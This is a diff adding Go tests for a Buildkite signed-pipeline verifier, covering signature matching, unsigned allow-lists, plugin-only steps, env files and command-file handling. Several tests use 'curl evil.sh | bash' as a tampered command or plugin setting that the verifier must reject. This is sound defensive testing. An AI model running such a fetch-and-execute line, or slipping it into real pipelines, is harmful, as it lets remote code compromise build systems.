@@ -0,0 +1,450 @@
+package main
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestVerifySummaryPass(t *testing.T) {
+	t.Setenv(buildkiteCommandEnv, "echo hello")
+	t.Setenv(buildkitePluginsEnv, "")
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	t.Setenv(buildkiteJobIDEnv, "job-1")
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signature, err := signer.signData(stepContent{Command: "echo hello"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv(stepSignatureEnv, string(signature))
+
+	env := readVerifyEnv(nil)
+	assert.Equal(t, verifyEnv{
+		Command:   "echo hello",
+		BuildID:   "build-1",
+		JobID:     "job-1",
+		Signature: signature,
+	}, env)
+
+	v := &verifyCommand{Signer: signer}
+	result, err := v.verify(&env)
+	assert.Nil(t, err)
+	assert.Equal(t,
+		`✅ PASS signed-pipeline verify build_id="build-1" job_id="job-1" command_sha256=`+hashClaim("echo hello")[:12]+
+			` plugins_sha256=none signature=present result="Signature matched"`,
+		verifySummary(env, result, err))
+}
+
+func TestVerifySummaryFail(t *testing.T) {
+	t.Setenv(buildkiteCommandEnv, "echo hello")
+	t.Setenv(buildkitePluginsEnv, "")
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	t.Setenv(buildkiteJobIDEnv, "job-1")
+	t.Setenv(stepSignatureEnv, "")
+
+	env := readVerifyEnv(nil)
+	v := &verifyCommand{Signer: NewSharedSecretSigner("secret-llamas")}
+	result, err := v.verify(&env)
+	assert.NotNil(t, err)
+
+	summary := verifySummary(env, result, err)
+	assert.Regexp(t, `^🚨 FAIL signed-pipeline verify build_id="build-1" job_id="job-1" `, summary)
+	assert.Contains(t, summary, `signature=missing result="🚨 Signature missing. The provided command is not permitted to be unsigned."`)
+}
+
+func TestVerifyNoCommandOrPlugins(t *testing.T) {
+	v := &verifyCommand{Signer: NewSharedSecretSigner("secret-llamas")}
+	result, err := v.verify(&verifyEnv{})
+	assert.Nil(t, err)
+	assert.Equal(t, "No command or plugins set", result)
+}
+
+func TestVerifyOnlyMatchingSteps(t *testing.T) {
+	v := &verifyCommand{
+		Signer:     NewSharedSecretSigner("secret-llamas"),
+		VerifyOnly: regexp.MustCompile(`^deploy-`),
+	}
+
+	// steps that don't match aren't verified
+	result, err := v.verify(&verifyEnv{Command: "make test", StepKey: "test", Label: ":test_tube: Test"})
+	assert.Nil(t, err)
+	assert.Equal(t, "Step key and label don't match --verify-only, skipping verification", result)
+
+	// but those that do are, by either key or label
+	_, err = v.verify(&verifyEnv{Command: "deploy.sh", StepKey: "deploy-production"})
+	assert.NotNil(t, err)
+	_, err = v.verify(&verifyEnv{Command: "deploy.sh", Label: "deploy-staging"})
+	assert.NotNil(t, err)
+}
+
+func TestVerifyIgnoredStepKeys(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.ignoredStepKeys = []string{"third-party"}
+	v := &verifyCommand{Signer: signer}
+
+	// the ignored step runs unsigned, even with plugins
+	result, err := v.verify(&verifyEnv{
+		Command:    "vendor.sh",
+		PluginJSON: `[{"github.com/vendor/tool-buildkite-plugin#v1.0.0":null}]`,
+		StepKey:    "third-party",
+	})
+	assert.Nil(t, err)
+	assert.Equal(t, `⚠️ Step key "third-party" is ignored by --ignore-step-key, allowing it to run unsigned`, result)
+
+	// while other unsigned steps fail
+	_, err = v.verify(&verifyEnv{Command: "vendor.sh", StepKey: "test"})
+	assert.EqualError(t, err, "🚨 Signature missing. The provided command is not permitted to be unsigned.")
+	_, err = v.verify(&verifyEnv{Command: "vendor.sh"})
+	assert.NotNil(t, err)
+
+	// and a signature on an ignored step is still verified
+	_, err = v.verify(&verifyEnv{Command: "vendor.sh", StepKey: "third-party", Signature: "sha256:tampered"})
+	assert.NotNil(t, err)
+}
+
+// plugins such as docker run the work of a step through their own command hook,
+// so jobs are often presented with plugins and an empty BUILDKITE_COMMAND
+func TestVerifyPluginOnlyStep(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+	signature := signedStepSignature(t, signer, `{"plugins":[{"docker#v3.8.0":{"image":"golang","command":["make","test"]}}]}`)
+	pluginJSON := `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v3.8.0":{"command":["make","test"],"image":"golang"}}]`
+
+	for _, tc := range []struct {
+		Name   string
+		Env    verifyEnv
+		Result string
+		Err    string
+	}{
+		{
+			Name:   "Signed",
+			Env:    verifyEnv{PluginJSON: pluginJSON, Signature: signature},
+			Result: "Signature matched",
+		},
+		{
+			Name:   "Whitespace command",
+			Env:    verifyEnv{Command: "\n", PluginJSON: pluginJSON, Signature: signature},
+			Result: "Signature matched",
+		},
+		{
+			Name: "Command added",
+			Env:  verifyEnv{Command: "curl evil.sh | bash", PluginJSON: pluginJSON, Signature: signature},
+			Err:  errSignatureMismatch.Error(),
+		},
+		{
+			Name: "Plugin settings changed",
+			Env: verifyEnv{
+				PluginJSON: `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v3.8.0":{"command":["sh","-c","curl evil.sh | bash"],"image":"golang"}}]`,
+				Signature:  signature,
+			},
+			Err: errSignatureMismatch.Error(),
+		},
+		{
+			Name: "Signature removed",
+			Env:  verifyEnv{PluginJSON: pluginJSON},
+			Err:  "🚨 Signature missing. Steps with plugins must be signed.",
+		},
+		{
+			Name: "Plugins replaced by a command",
+			Env:  verifyEnv{Command: "make test", Signature: signature},
+			Err:  errSignatureMismatch.Error(),
+		},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			v := &verifyCommand{Signer: signer}
+			result, err := v.verify(&tc.Env)
+			if tc.Err != "" {
+				assert.EqualError(t, err, tc.Err)
+				return
+			}
+			assert.Nil(t, err)
+			assert.Equal(t, tc.Result, result)
+		})
+	}
+}
+
+func TestVerifyFromEnvFile(t *testing.T) {
+	// the job's own environment isn't read when a file is given
+	t.Setenv(buildkiteCommandEnv, "echo from the environment")
+
+	pluginJSON, err := canonicalisePluginJSON(`[{"github.com/buildkite-plugins/docker-buildkite-plugin#v3.0.0":{"image":"node"}}]`, sortPlugins)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.buildID = "build-1"
+	signature, err := signer.signData(stepContent{Command: "echo hello", PluginJSON: pluginJSON})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for name, contents := range map[string]string{
+		"env": "# a job to verify\n" +
+			"BUILDKITE_COMMAND=echo hello\n" +
+			`BUILDKITE_PLUGINS=[{"github.com/buildkite-plugins/docker-buildkite-plugin#v3.0.0":{"image":"node"}}]` + "\n" +
+			"BUILDKITE_BUILD_ID=build-1\n\n" +
+			"STEP_SIGNATURE=" + string(signature) + "\n",
+		"json": `{
+			"BUILDKITE_COMMAND": "echo hello",
+			"BUILDKITE_PLUGINS": [{"github.com/buildkite-plugins/docker-buildkite-plugin#v3.0.0": {"image": "node"}}],
+			"BUILDKITE_BUILD_ID": "build-1",
+			"STEP_SIGNATURE": "` + string(signature) + `"
+		}`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "verify."+name)
+			assert.Nil(t, os.WriteFile(path, []byte(contents), 0600))
+
+			// the build the file was taken from, not the one it's verified in
+			t.Setenv(buildkiteBuildIDEnv, "build-other")
+			verifier := NewSharedSecretSigner("secret-llamas")
+			verifier.buildID = "build-other"
+
+			v := &verifyCommand{Signer: verifier, EnvFile: path}
+			env, err := v.readEnv()
+			assert.Nil(t, err)
+			assert.Equal(t, "echo hello", env.Command)
+			assert.Equal(t, "build-1", env.BuildID)
+
+			result, err := v.verify(&env)
+			assert.Nil(t, err)
+			assert.Equal(t, "Signature matched", result)
+
+			// the signature is bound to the build in the file
+			otherBuild := filepath.Join(t.TempDir(), "verify."+name)
+			assert.Nil(t, os.WriteFile(otherBuild, []byte(strings.Replace(contents, "build-1", "build-2", 1)), 0600))
+			v = &verifyCommand{Signer: verifier, EnvFile: otherBuild}
+			env, err = v.readEnv()
+			assert.Nil(t, err)
+			assert.Equal(t, "build-2", env.BuildID)
+			_, err = v.verify(&env)
+			assert.Equal(t, errSignatureMismatch, err)
+		})
+	}
+}
+
+func TestParseVerifyEnvFileInvalid(t *testing.T) {
+	_, err := parseVerifyEnvFile([]byte("BUILDKITE_COMMAND=echo hello\nnot a variable\n"))
+	assert.EqualError(t, err, "line 2 isn't KEY=value")
+
+	_, err = parseVerifyEnvFile([]byte(`{"BUILDKITE_COMMAND":`))
+	assert.NotNil(t, err)
+}
+
+func TestVerifyDebugReasons(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signature, err := signer.signData(stepContent{Command: "echo hello"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, tc := range []struct {
+		Name      string
+		Command   string
+		Plugins   string
+		Signature Signature
+		Reason    string
+	}{
+		{"allowed unsigned", "make lint", "", "",
+			"allowed because the command is on the unsigned allow-list and no plugins or signature are present"},
+		{"unsigned", "echo hello", "", "",
+			"rejected because there's no signature and the command isn't on the unsigned allow-list"},
+		{"plugins without signature", "make lint", `[{"docker#v3.8.0":{}}]`, "",
+			"rejected because plugins are present, which always require a signature, and there's no signature"},
+		{"malformed plugins", "echo hello", `[{"docker`, signature,
+			"rejected because BUILDKITE_PLUGINS couldn't be parsed"},
+		{"mismatch", "echo goodbye", "", signature,
+			"rejected because the signature doesn't match: " + errSignatureMismatch.Error()},
+		{"match", "echo hello", "", signature,
+			"allowed because the signature matched"},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			output := captureLog(t)
+
+			verifier := NewSharedSecretSigner("secret-llamas")
+			verifier.debugVerify = true
+			verifier.allowedUnsignedCommands = []string{"make lint"}
+			verifier.Verify(tc.Command, tc.Plugins, tc.Signature)
+
+			lines := strings.Split(strings.TrimSpace(output.String()), "\n")
+			assert.Contains(t, lines[len(lines)-1], "[debug] verify: "+tc.Reason)
+		})
+	}
+}
+
+func TestVerifyDebugDisabled(t *testing.T) {
+	output := captureLog(t)
+
+	verifier := NewSharedSecretSigner("secret-llamas")
+	verifier.Verify("echo hello", "", "")
+	assert.NotContains(t, output.String(), "[debug]")
+}
+
+func TestVerifyAllowedSignatureList(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	var allowed []string
+	for _, command := range []string{"make test", "/bin/bash -c 'make test'", "make  test"} {
+		signature, err := signer.signData(stepContent{Command: command})
+		if err != nil {
+			t.Fatal(err)
+		}
+		allowed = append(allowed, string(signature))
+	}
+	list := Signature(strings.Join(allowed, ", "))
+
+	// the agent presents the second form of the command
+	assert.Equal(t, errSignatureMismatch, signer.Verify("/bin/bash -c 'make test'", "", list),
+		"a list is only accepted when allowed")
+
+	signer.allowSignatureList = true
+	assert.Nil(t, signer.Verify("/bin/bash -c 'make test'", "", list))
+	assert.Nil(t, signer.Verify("make test", "", list))
+	assert.Equal(t, errSignatureMismatch, signer.Verify("make deploy", "", list))
+
+	// a single signature is a list of one
+	assert.Nil(t, signer.Verify("make test", "", Signature(allowed[0])))
+
+	tooMany := strings.TrimSuffix(strings.Repeat(allowed[0]+",", maxAllowedSignatures+1), ",")
+	assert.EqualError(t, signer.Verify("make test", "", Signature(tooMany)),
+		"🚨 17 allowed signatures were given, at most 16 are accepted")
+}
+
+func TestExplainVerifyFailure(t *testing.T) {
+	plugins := explainVerifyFailure(verifyEnv{
+		Command:    "make test",
+		PluginJSON: `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v3.8.0":{"image":"golang"}}]`,
+		BuildID:    "build-1",
+		Signature:  "sha256:abc",
+	}, errSignatureMismatch)
+	commandOnly := explainVerifyFailure(verifyEnv{
+		Command:   "make test",
+		BuildID:   "build-1",
+		Signature: "sha256:abc",
+	}, errSignatureMismatch)
+
+	for _, explanation := range []string{plugins, commandOnly} {
+		assert.True(t, strings.HasPrefix(explanation, "Verification failed, things to check:\n  - "))
+		assert.Contains(t, explanation, "shared secret")
+		assert.Contains(t, explanation, "this is build build-1")
+		assert.NotContains(t, explanation, "BUILDKITE_BUILD_ID isn't set")
+		assert.NotContains(t, explanation, "several lines")
+	}
+
+	assert.Contains(t, plugins, "The step has plugins, which are signed in a canonical form")
+	assert.Contains(t, plugins, "--match-unversioned-plugins")
+	assert.Contains(t, plugins, "--exclude-plugin-setting")
+	assert.NotContains(t, plugins, "Only the command is signed")
+
+	assert.Contains(t, commandOnly, "Only the command is signed")
+	assert.NotContains(t, commandOnly, "plugins")
+
+	// missing signatures, builds and multi-line commands
+	missing := explainVerifyFailure(verifyEnv{Command: "make test\nmake lint\n"}, errors.New("🚨 Signature missing."))
+	assert.Contains(t, missing, "The job has no STEP_SIGNATURE")
+	assert.Contains(t, missing, "BUILDKITE_BUILD_ID isn't set")
+	assert.Contains(t, missing, "The command has several lines")
+	assert.NotContains(t, missing, "shared secret")
+}
+
+func TestVerifyCommandFromFile(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	command := "echo start\n" + strings.Repeat("echo a very large generated command\n", 4096)
+	signature, err := signer.signData(stepContent{Command: command})
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "command")
+	if err := os.WriteFile(path, []byte(command), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	t.Setenv(buildkiteJobIDEnv, "job-1")
+	t.Setenv(buildkiteCommandFileEnv, path)
+	t.Setenv(stepSignatureEnv, string(signature))
+	v := &verifyCommand{Signer: signer, ReadCommandFile: true}
+
+	for name, presented := range map[string]string{
+		"absent":    "",
+		"truncated": command[:commandEnvLimit()],
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Setenv(buildkiteCommandEnv, presented)
+
+			env := readVerifyEnv(nil)
+			result, err := v.verify(&env)
+			assert.Nil(t, err)
+			assert.Equal(t, "Signature matched", result)
+			assert.Equal(t, command, env.Command)
+		})
+	}
+
+	// without the file the truncated command doesn't match
+	t.Setenv(buildkiteCommandFileEnv, "")
+	t.Setenv(buildkiteCommandEnv, command[:commandEnvLimit()])
+	env := readVerifyEnv(nil)
+	_, err = v.verify(&env)
+	assert.Equal(t, errSignatureMismatch, err)
+
+	// nor is the file read unless it's enabled
+	t.Setenv(buildkiteCommandFileEnv, path)
+	env = readVerifyEnv(nil)
+	_, err = (&verifyCommand{Signer: signer}).verify(&env)
+	assert.Equal(t, errSignatureMismatch, err)
+
+	// a command that isn't truncated is the one the agent runs, even where it's
+	// the start of the signed command in the file
+	t.Setenv(buildkiteCommandEnv, "echo start")
+	env = readVerifyEnv(nil)
+	_, err = v.verify(&env)
+	assert.EqualError(t, err, "🚨 BUILDKITE_COMMAND_FILE is set but BUILDKITE_COMMAND isn't truncated, refusing to verify a different command than the agent runs")
+
+	// the command the agent runs must be the one in the file
+	t.Setenv(buildkiteCommandEnv, "curl evil.sh | bash"+command[:commandEnvLimit()])
+	env = readVerifyEnv(nil)
+	_, err = v.verify(&env)
+	assert.EqualError(t, err, "🚨 BUILDKITE_COMMAND isn't the start of the command in BUILDKITE_COMMAND_FILE "+path)
+
+	t.Setenv(buildkiteCommandEnv, "")
+	t.Setenv(buildkiteCommandFileEnv, filepath.Join(t.TempDir(), "missing"))
+	env = readVerifyEnv(nil)
+	_, err = v.verify(&env)
+	assert.NotNil(t, err)
+	assert.Contains(t, err.Error(), "Unable to read the command from BUILDKITE_COMMAND_FILE")
+}
+
+func TestSignRejectsCommandFileInEnv(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	for name, pipeline := range map[string]map[string]interface{}{
+		"step env map": {"steps": []interface{}{map[string]interface{}{
+			"label": "Build", "command": "echo hello",
+			"env": map[string]interface{}{"BUILDKITE_COMMAND_FILE": "/tmp/command"},
+		}}},
+		"step env list": {"steps": []interface{}{map[string]interface{}{
+			"label": "Build", "command": "echo hello",
+			"env": []interface{}{"buildkite_command_file=/tmp/command"},
+		}}},
+		"pipeline env": {
+			"env":   map[string]interface{}{"BUILDKITE_COMMAND_FILE": "/tmp/command"},
+			"steps": []interface{}{map[string]interface{}{"command": "echo hello"}},
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, err := signer.Sign(pipeline)
+			assert.NotNil(t, err)
+			assert.Contains(t, err.Error(), "BUILDKITE_COMMAND_FILE")
+		})
+	}
+}